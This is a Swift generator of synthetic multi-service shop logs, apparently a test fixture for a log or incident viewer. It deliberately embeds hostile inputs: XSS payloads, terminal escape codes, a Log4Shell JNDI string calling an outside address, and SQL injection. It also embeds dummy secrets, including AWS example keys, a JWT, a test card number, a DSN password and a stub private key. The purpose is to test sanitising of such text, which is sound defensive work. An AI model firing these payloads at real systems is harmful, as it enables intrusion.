import Model

/// Log lines of one service, collected with their time and written in time order.
struct StoryLog {
    private var lines: [(at: Int64, order: Int, text: String)] = []
    mutating func add(_ at: Instant, _ text: String) { lines.append((at.ms, lines.count, text)) }
    var count: Int { lines.count }

    func file(_ path: String) -> StoryFile {
        let sorted = lines.sorted { ($0.at, $0.order) < ($1.at, $1.order) }
        var bytes: [UInt8] = []
        bytes.reserveCapacity(sorted.count * 140)
        for line in sorted {
            bytes.append(contentsOf: line.text.utf8)
            bytes.append(10)
        }
        return StoryFile(path: path, bytes: bytes, modifiedAt: Instant(ms: sorted.last?.at ?? 0))
    }
}

extension Story {
    /// Eight services, eight formats, about 200 000 lines, with a few secrets and some hostile text among them.
    func logs(_ requests: [StoryRequest]) -> [StoryFile] {
        var logs = StoryLogs(story: self)
        for request in requests { logs.add(request) }
        logs.addBackground()
        logs.addSecretsAndHostility()
        return logs.files()
    }
}

private struct StoryLogs {
    let story: Story
    var chance: SplitMix64
    var storefront = StoryLog()
    var cart = StoryLog()
    var checkout = StoryLog()
    var payments = StoryLog()
    var inventory = StoryLog()
    var search = StoryLog()
    var notifications = StoryLog()
    var database = StoryLog()
    var hosts = StoryLog()

    init(story: Story) {
        self.story = story
        chance = SplitMix64(seed: story.seed &+ 1)
    }

    func files() -> [StoryFile] {
        [
            storefront.file("logs/storefront.log"), cart.file("logs/cart.logfmt"), checkout.file("logs/checkout.jsonl"),
            payments.file("logs/payments.log"), inventory.file("logs/inventory.cri.log"), search.file("logs/search.log"),
            notifications.file("logs/notifications.syslog"), database.file("logs/shop-db.syslog"), hosts.file("logs/hosts.journal.json"),
        ]
    }

    // MARK: - Requests

    mutating func add(_ r: StoryRequest) {
        let failed = r.failedService != nil || r.searchTimeout
        let done = r.at + Int64(r.durationMs)
        switch r.kind {
        case .browse:
            access(r, "GET /product/\(r.product) HTTP/1.1", 200, done)
            if chance.chance(0.5) { cartLine(r.at + 9, "info", "cart loaded", "user=\(r.user) lines=\(r.cartLines) cache=hit", r) }
        case .search:
            access(r, "GET /search?q=item+\(r.product) HTTP/1.1", failed ? 504 : 200, done)
            searchLine(r.at + 6, "INFO", "query accepted terms=\(1 + r.product % 4) shard=\(r.product % 6)")
            if failed {
                searchLine(done, "ERROR", "query failed after \(r.durationMs) ms: IndexTimeout: shard \(r.product % 6) did not answer")
                if chance.chance(0.15) {
                    search.add(done + 1, "Traceback (most recent call last):")
                    search.add(done + 1, "  File \"/srv/search/api/query.py\", line 118, in run")
                    search.add(done + 1, "    hits = shard.collect(plan, timeout=5.0)")
                    search.add(done + 1, "  File \"/srv/search/index/shard.py\", line 64, in collect")
                    search.add(done + 1, "    raise IndexTimeout(self.number)")
                    search.add(done + 1, "search.index.IndexTimeout: shard \(r.product % 6) did not answer")
                }
            } else {
                searchLine(done, "INFO", "query answered hits=\(r.product * 3 % 400) took=\(r.durationMs)ms")
            }
        case .addToCart:
            access(r, "POST /cart/items HTTP/1.1", failed ? 503 : 201, done)
            cartLine(r.at + 5, "info", "item added", "user=\(r.user) product=\(r.product) lines=\(r.cartLines)", r)
            if failed {
                cartLine(done, "warn", "session store slow, answering from cache", "user=\(r.user) waited_ms=\(r.durationMs)", r)
            }
            inventoryLine(r.at + 12, "info", "stock checked", "\"product\":\(r.product),\"left\":\(r.product * 7 % 90)", r)
        case .checkout: checkoutRequest(r, done)
        }
    }

    private mutating func checkoutRequest(_ r: StoryRequest, _ done: Instant) {
        access(r, "POST /checkout HTTP/1.1", r.failedService == nil ? 200 : 503, done)
        checkoutLine(r.at + 4, "info", "checkout started for order \(r.order)", "\"lines\":\(r.cartLines),\"cents\":\(r.cents)", r)
        if r.at >= story.badDeploy {
            checkoutLine(r.at + 15, "info", "acquired \(r.cartLines) sessions for cart of \(r.cartLines) lines", "\"order\":\(r.order)", r)
        } else {
            checkoutLine(r.at + 15, "info", "acquired session for order \(r.order)", "\"order\":\(r.order)", r)
        }
        cartLine(r.at + 20, "info", "cart locked", "user=\(r.user) order=\(r.order) lines=\(r.cartLines)", r)
        inventoryLine(r.at + 40, "info", "reservation created", "\"order\":\(r.order),\"items\":\(r.cartLines)", r)
        guard let failed = r.failedService else {
            paymentsLine(
                r.at + 80, "INFO", "PaymentService", "authorize order=\(r.order) amount=\(r.cents / 100).\(padded(r.cents % 100, 2)) EUR")
            paymentsLine(done - 20, "INFO", "PaymentService", "captured order=\(r.order) in \(r.durationMs / 3) ms")
            checkoutLine(done, "info", "order \(r.order) placed in \(r.durationMs) ms", "\"cents\":\(r.cents)", r)
            notificationLine(done + 30, 6, "queued confirmation mail for order \(r.order)")
            if r.mailDeferred {
                notificationLine(
                    done + 900, 4, "delivery deferred for order \(r.order): 451 4.3.0 relay mx2.mailwing.example try again later")
            } else {
                notificationLine(done + 400, 6, "delivered confirmation for order \(r.order) in \(200 + r.product % 200) ms")
            }
            return
        }
        switch failed {
        case "payments":
            paymentsLine(done - 3, "WARN", "GatewayClient", "reconnecting to postgres://shop:c0rrect-horse@shop-db:5432/shop")
            paymentsLine(done, "ERROR", "PaymentService", "authorize failed for order=\(r.order)")
            payments.add(done, "com.shop.db.PoolTimeoutException: no connection within 3000 ms, in use 200 of 200")
            payments.add(done, "\tat com.shop.db.ConnectionPool.acquire(ConnectionPool.java:57)")
            payments.add(done, "\tat com.shop.payments.AuthorizationStore.save(AuthorizationStore.java:88)")
            payments.add(done, "\tat com.shop.payments.PaymentService.authorize(PaymentService.java:41)")
        case "inventory":
            inventoryLine(done, "error", "reservation failed: pq: remaining connection slots are reserved", "\"order\":\(r.order)", r)
        default:
            let stack =
                "com.shop.db.PoolTimeoutException: no connection within 3000 ms\\n\\tat com.shop.db.ConnectionPool.acquire(ConnectionPool.java:57)"
                + "\\n\\tat com.shop.checkout.CartSession.openPerLine(CartSession.java:72)\\n\\tat com.shop.checkout.CheckoutService.place(CheckoutService.java:133)"
            checkoutLine(
                done - 5, "error", "could not open a session for cart line \(r.cartLines)", "\"stack\":\"\(stack)\",\"order\":\(r.order)", r
            )
        }
        checkoutLine(done, "error", "order \(r.order) failed: \(failed) answered 503", "\"waited_ms\":\(r.durationMs)", r)
        if chance.chance(0.3) {
            databaseLine(done, "err", "FATAL:  remaining connection slots are reserved for non-replication superuser connections")
        }
    }

    // MARK: - Steady background

    mutating func addBackground() {
        var at = story.start
        var step = 0
        while at < story.end {
            if step % 2 == 0 { databaseLine(at + 100, "info", "LOG:  checkpoint starting: time") }
            databaseLine(at + 300, "info", "LOG:  automatic vacuum of table \"shop.public.cart_line\": index scans: \(step % 3)")
            paymentsLine(at + 500, "DEBUG", "HealthCheck", "ping ok pool=\(48 + step % 9)/200")
            notificationLine(at + 700, 6, "queue depth \(story.mailTrouble(at: at) ? 400 + step * 3 : 2 + step % 5)")
            hosts.add(at, journal(at, "kernel", 6, "node-\(1 + step % 3)", "eth0: link is up, \(1_000 + step % 7) packets"))
            if step % 5 == 0 { hosts.add(at + 40, journal(at + 40, "systemd", 6, "node-1", "Started session-\(step).scope.")) }
            if story.searchTrouble(at: at) {
                searchLine(at + 50, "WARNING", "merge of segment s\(step) waits for disk, 97 % full on /var/lib/search")
                hosts.add(at + 60, journal(at + 60, "search-merge", 4, "node-3", "no space left for merge, need \(300 + step % 50) MB"))
            }
            at = at + 15_000
            step += 1
        }
    }

    /// What real logs hold and must never reach a page: credentials of many kinds, and text that tries to be script,
    /// markup, a link or a terminal command.
    mutating func addSecretsAndHostility() {
        let noon = story.badDeploy
        let hostile = [
            "<script>document.title='owned'</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(document.domain)",
            "\u{1b}]0;owned\u{7}\u{1b}[31mred\u{1b}[0m", "\u{202E}gnp.exe", "${jndi:ldap://198.51.100.7/a}", "'; DROP TABLE event; --",
        ]
        for (index, text) in hostile.enumerated() {
            let at = noon - Int64(index + 1) * 400_000
            searchLine(at, "INFO", "rejected query \(text)")
            storefront.add(
                at, "203.0.113.66 - - [\(clf(at))] \"GET /search?q=\(text.replacingSpaces) HTTP/1.1\" 400 153 \"-\" \"probe \(index)\"")
            cartLine(at, "info", "odd coupon", "coupon=\"\(text.filter { $0 != "\"" })\"", nil)
        }
        // And in the middle of the incident, as evidence of it.
        for minute in [7, 9, 12, 14, 19] {
            let text = hostile[minute % hostile.count].filter { $0 != "\"" && $0 != "\u{1b}" && $0 != "\u{7}" }
            checkoutLine(
                story.badDeploy + Int64(minute) * 60_000, "error", "coupon not applied: \(text)", "\"order\":\(88_500 + minute)", nil)
        }
        let key = "AKIA" + "IOSFODNN7EXAMPLE"
        let jwt = "eyJhbGciOiJSUzI1NiJ9" + ".eyJzdWIiOiJzaG9wIiwiZXhwIjoxOTAwMDAwMDAwfQ" + ".c2lnbmF0dXJlLW9mLXRoZS1kZW1vLXN0b3J5LW9ubHk"
        for minute in [20.0, 61, 95] {
            let at = story.minutesBeforeEnd(minute)
            checkoutLine(
                at, "info", "retrying upload with access key \(key)", "\"secret_access_key\":\"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\"",
                nil)
            paymentsLine(at, "INFO", "GatewayClient", "request rejected, Authorization: Bearer \(jwt)")
            paymentsLine(at + 3, "INFO", "CardVault", "could not tokenise card 4111 1111 1111 1111 for order=\(88_400 + Int(minute))")
            cartLine(at, "info", "session store connected", "dsn=postgres://shop:c0rrect-horse@shop-db:5432/shop", nil)
            databaseLine(at, "info", "LOG:  connection with password=hunter2-staple given on the command line")
        }
        let keyAt = story.minutesBeforeEnd(95)
        for line in [
            "-----BEGIN RSA PRIVATE " + "KEY-----", "MIIEpAIBAAKCAQEAdemo0demo1demo2demo3demo4demo5demo6demo7demo8demo9",
            "-----END RSA PRIVATE " + "KEY-----",
        ] {
            searchLine(keyAt, "INFO", "unexpected line in config: \(line)")
        }
    }

    // MARK: - Formats

    private mutating func access(_ r: StoryRequest, _ line: String, _ status: Int, _ at: Instant) {
        storefront.add(
            at,
            "\(r.clientAddress) - - [\(clf(at))] \"\(line)\" \(status) \(400 + r.product * 13 % 9_000) \"https://shop.example/\" \"\(r.agent)\" rt=0.\(padded(r.durationMs % 1_000, 3))"
        )
    }
    private mutating func cartLine(_ at: Instant, _ level: String, _ message: String, _ rest: String, _ r: StoryRequest?) {
        let trace = r.map { " trace_id=\($0.traceID)" } ?? ""
        cart.add(at, "ts=\(at.rfc3339) level=\(level) service=cart msg=\"\(message)\" \(rest)\(trace)")
    }
    private mutating func checkoutLine(_ at: Instant, _ level: String, _ message: String, _ rest: String, _ r: StoryRequest?) {
        let trace = r.map { ",\"trace_id\":\"\($0.traceID)\"" } ?? ""
        let pod = "checkout-5b67c48447-\(at >= story.badDeploy ? "q7x2m" : "fj8b7")"
        checkout.add(
            at,
            "{\"time\":\"\(at.rfc3339)\",\"level\":\"\(level)\",\"service\":\"checkout\",\"pod\":\"\(pod)\",\"message\":\"\(message)\",\(rest)\(trace)}"
        )
    }
    private mutating func paymentsLine(_ at: Instant, _ level: String, _ logger: String, _ message: String) {
        let c = at.civil
        payments.add(
            at,
            "\(at.date) \(at.clock),\(padded(c.millisecond, 3)) \(level.padding(5)) [worker-\(at.ms / 7 % 8)] com.shop.payments.\(logger) - \(message)"
        )
    }
    private mutating func inventoryLine(_ at: Instant, _ level: String, _ message: String, _ rest: String, _ r: StoryRequest) {
        let stream = level == "error" ? "stderr" : "stdout"
        inventory.add(
            at,
            "\(at.date)T\(at.clock).\(padded(at.civil.millisecond, 3))000000Z \(stream) F {\"level\":\"\(level)\",\"msg\":\"\(message)\",\(rest),\"trace_id\":\"\(r.traceID)\"}"
        )
    }
    private mutating func searchLine(_ at: Instant, _ level: String, _ message: String) {
        search.add(at, "\(at.date) \(at.clock),\(padded(at.civil.millisecond, 3)) \(level) [search.api] \(message)")
    }
    private mutating func notificationLine(_ at: Instant, _ severity: Int, _ message: String) {
        notifications.add(at, "<\(16 + severity)>1 \(at.rfc3339) mail-1 notifications 411 - - \(message)")
    }
    private mutating func databaseLine(_ at: Instant, _ severity: String, _ message: String) {
        let priority = 128 + (severity == "err" ? 3 : severity == "warning" ? 4 : 6)
        let c = at.civil
        let day = c.day < 10 ? " \(c.day)" : "\(c.day)"
        database.add(at, "<\(priority)>\(c.monthName) \(day) \(at.clock) db-1 postgres[\(900 + at.ms / 1_000 % 60)]: \(message)")
    }
    private func journal(_ at: Instant, _ unit: String, _ priority: Int, _ host: String, _ message: String) -> String {
        "{\"__REALTIME_TIMESTAMP\":\"\(at.ms)000\",\"PRIORITY\":\"\(priority)\",\"SYSLOG_IDENTIFIER\":\"\(unit)\",\"_HOSTNAME\":\"\(host)\",\"MESSAGE\":\"\(message)\"}"
    }
    private func clf(_ at: Instant) -> String {
        let c = at.civil
        return "\(padded(c.day, 2))/\(c.monthName)/\(c.year):\(at.clock) +0000"
    }
}

extension String {
    fileprivate var replacingSpaces: String { String(map { $0 == " " ? "+" : $0 == "\"" ? "'" : $0 }) }
    fileprivate func padding(_ width: Int) -> String { self + String(repeating: " ", count: max(0, width - utf8.count)) }
}
